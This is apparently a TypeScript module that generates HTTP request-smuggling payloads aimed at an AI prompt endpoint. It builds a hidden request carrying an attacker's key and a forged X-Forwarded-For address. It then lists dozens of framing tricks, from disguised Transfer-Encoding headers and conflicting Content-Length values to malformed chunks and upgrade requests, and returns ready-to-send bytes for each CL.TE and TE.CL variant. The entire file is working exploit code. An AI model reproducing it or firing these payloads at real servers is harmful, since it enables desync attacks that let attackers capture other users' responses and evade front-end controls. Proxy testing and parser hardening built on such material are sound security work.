/** Names the parties of an attack. */
export interface Attack {
  /** Value of the header Host. */
  host: string
  /** Key of the attacker. */
  key: string
  /** Id of the request that is hidden in another one. It is the header X-Request-Id and part of the text that it would store. */
  id: string
}

/** Address that a hidden request claims. A proxy that sees it as a request appends the address of the attacker. */
export const FORGED_ADDRESS = '203.0.113.77'

/** Returns the request to be hidden: it creates a prompt, and its response would be in the queue of the connection. */
export function hiddenRequest({ host, key, id }: Attack): string {
  const body = JSON.stringify({ text: `Which tool is ${id}?` })
  return [
    'POST /v1/prompts HTTP/1.1',
    `Host: ${host}`,
    `Authorization: Bearer ${key}`,
    'Content-Type: application/json',
    `X-Request-Id: ${id}`,
    `X-Forwarded-For: ${FORGED_ADDRESS}`,
    `Content-Length: ${body.length}`,
    '',
    body,
  ].join('\r\n')
}

/** Ways to write `Transfer-Encoding: chunked` that only some parsers accept. Each is a part of the headers. */
const DISGUISED = {
  'an unknown encoding': 'Transfer-Encoding: xchunked',
  'a space before the colon': 'Transfer-Encoding : chunked',
  'a tab': 'Transfer-Encoding:\tchunked',
  'a tab at the end': 'Transfer-Encoding: chunked\t',
  'a vertical tab': 'Transfer-Encoding: \x0bchunked',
  'capital letters': 'Transfer-Encoding: CHUNKED',
  quotes: 'Transfer-Encoding: "chunked"',
  'a folded line': 'Transfer-Encoding:\r\n chunked',
  'a leading space': 'X-Nothing: x\r\n Transfer-Encoding: chunked',
  'a bare line feed': 'X-Nothing: x\nTransfer-Encoding: chunked',
  'a bare carriage return': 'X-Nothing: x\rTransfer-Encoding: chunked',
  'a null byte': 'X-Nothing: x\0\r\nTransfer-Encoding: chunked',
  'a second header': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'a second header first': 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'a list': 'Transfer-Encoding: identity, chunked',
  'a list that ends with another encoding': 'Transfer-Encoding: chunked, identity',
  'a list with an empty entry': 'Transfer-Encoding: , chunked',
  'the encoding twice': 'Transfer-Encoding: chunked, chunked',
  'a parameter': 'Transfer-Encoding: chunked;x=y',
  'an underscore': 'Transfer_Encoding: chunked',
}

/** Lengths that parsers read differently. `%` is replaced by the length of the hidden request. */
const LENGTHS = {
  'two lengths, 0 first': 'Content-Length: 0\r\nContent-Length: %',
  'two lengths, 0 last': 'Content-Length: %\r\nContent-Length: 0',
  'a list of lengths': 'Content-Length: 0, %',
  'a plus sign': 'Content-Length: +%',
  'a minus sign': 'Content-Length: -0',
  'a space in the length': 'Content-Length: 0 %',
  'a space before the colon': 'Content-Length : %',
  'a folded length': 'Content-Length:\r\n %',
  'a hexadecimal length': 'Content-Length: 0x0',
  'a leading zero': 'Content-Length: 0%',
  'an empty length': 'Content-Length:',
  'an underscore': 'Content_Length: %',
  'a length beyond 64 bits': 'Content-Length: 18446744073709551616',
  'a length that Connection removes': 'Connection: keep-alive, Content-Length\r\nContent-Length: %',
  'a body that is sent after a response': 'Expect: 100-continue\r\nContent-Length: %',
  'an expectation that proxies do not know': 'Expect: x 100-continue\r\nContent-Length: %',
}

/** Chunked bodies that parsers read differently. `%` is replaced by the hidden request, `#` by its length in hexadecimal. */
const CHUNKS = {
  'a bare line feed after the last chunk': '0\n\n%',
  'a bare line feed in a chunk extension': '2;\nxx\r\n#\r\n0\r\n\r\n%\r\n0\r\n\r\n',
  'a bare carriage return in a chunk extension': '2;\rxx\r\n0\r\n\r\n%0\r\n\r\n',
  'a quoted line end in a chunk extension': '0;x="\r\n\r\n%"\r\n\r\n',
  'a size with a prefix': '0x0\r\n\r\n%',
  'a size with a plus sign': '+0\r\n\r\n%',
  'a negative size': '-1\r\n\r\n%',
  'a size with an underscore': '0_0\r\n\r\n%',
  'a size after a space': ' 0\r\n\r\n%',
  'a size beyond 64 bits': '10000000000000000\r\n\r\n%\r\n0\r\n\r\n',
  'an empty size': '\r\n\r\n%',
  'two bytes instead of the end of a chunk': '2\r\nxxzz0\r\n\r\n%',
  'an endless chunk extension': `0;${'x'.repeat(20_000)}\r\n\r\n%`,
  'a length in the trailer': '0\r\nContent-Length: 5\r\n\r\n%',
  'a transfer encoding in the trailer': '0\r\nTransfer-Encoding: identity\r\n\r\n%',
}

/** Other requests. `%` is replaced by the hidden request, `#` by its length, `HOST` by the value of Host. */
const REQUESTS = {
  'GET with a body': 'GET /healthz HTTP/1.1\r\nHost: HOST\r\nContent-Length: #\r\n\r\n%',
  'HEAD with a body': 'HEAD /healthz HTTP/1.1\r\nHost: HOST\r\nContent-Length: #\r\n\r\n%',
  'OPTIONS with a body': 'OPTIONS /v1/prompts HTTP/1.1\r\nHost: HOST\r\nContent-Length: #\r\n\r\n%',
  'a body that redirects ignore': 'POST /share HTTP/1.1\r\nHost: HOST\r\nContent-Length: #\r\n\r\n%',
  'an upgrade to WebSocket with an unknown version':
    'GET /graphql HTTP/1.1\r\nHost: HOST\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 777\r\n\r\n%',
  'an upgrade that does not exist':
    'GET /healthz HTTP/1.1\r\nHost: HOST\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n%',
  'an upgrade to HTTP/2':
    'GET /healthz HTTP/1.1\r\nHost: HOST\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n%',
  'an upgrade with a body':
    'POST /graphql HTTP/1.1\r\nHost: HOST\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: #\r\n\r\n%',
  'chunks in HTTP/1.0':
    'POST /v1/prompts HTTP/1.0\r\nHost: HOST\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\nContent-Length: #\r\n\r\n0\r\n\r\n%',
  'CONNECT with a body': 'CONNECT HOST HTTP/1.1\r\nHost: HOST\r\nContent-Length: #\r\n\r\n%',
  'a request in the path':
    'GET /healthz%20HTTP/1.1%0d%0aHost:%20HOST%0d%0a%0d%0a HTTP/1.1\r\nHost: HOST\r\n\r\n',
  'two hosts': 'GET /healthz HTTP/1.1\r\nHost: HOST\r\nHost: elsewhere.example\r\nContent-Length: #\r\n\r\n%',
}

/** Returns the bytes of each attack over HTTP/1.1, by its name. */
export function attacks(attack: Attack): Record<string, string> {
  const { host, key } = attack
  const hidden = hiddenRequest(attack)
  const post = (framing: string, body: string) =>
    [
      'POST /v1/prompts HTTP/1.1',
      `Host: ${host}`,
      `Authorization: Bearer ${key}`,
      'Content-Type: application/json',
      framing,
      '',
      body,
    ].join('\r\n')
  const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`
  const ended = `0\r\n\r\n${hidden}`
  /** A proxy that reads the length, and a gateway that reads the chunks. */
  const lengthFirst = (encoding: string) => post(`Content-Length: ${ended.length}\r\n${encoding}`, ended)
  /** A proxy that reads the chunks, and a gateway that reads the length. */
  const chunksFirst = (encoding: string) =>
    post(`${encoding}\r\nContent-Length: ${hidden.length.toString(16).length + 2}`, chunk(hidden))
  const all: [string, string][] = [
    ['CL.TE', lengthFirst('Transfer-Encoding: chunked')],
    ['TE.CL', chunksFirst('Transfer-Encoding: chunked')],
    ...Object.entries(DISGUISED).flatMap(([name, encoding]): [string, string][] => [
      [`CL.TE with ${name}`, lengthFirst(encoding)],
      [`TE.CL with ${name}`, chunksFirst(encoding)],
    ]),
    ...Object.entries(LENGTHS).map(([name, text]): [string, string] => [
      name,
      post(text.replace('%', String(hidden.length)), hidden),
    ]),
    ...Object.entries(CHUNKS).map(([name, text]): [string, string] => [
      name,
      post('Transfer-Encoding: chunked', text.replace('%', hidden).replace('#', hidden.length.toString(16))),
    ]),
    ...Object.entries(REQUESTS).map(([name, text]): [string, string] => [
      name,
      text.replaceAll('HOST', host).replace('%', hidden).replace('#', String(hidden.length)),
    ]),
  ]
  return Object.fromEntries(all)
}
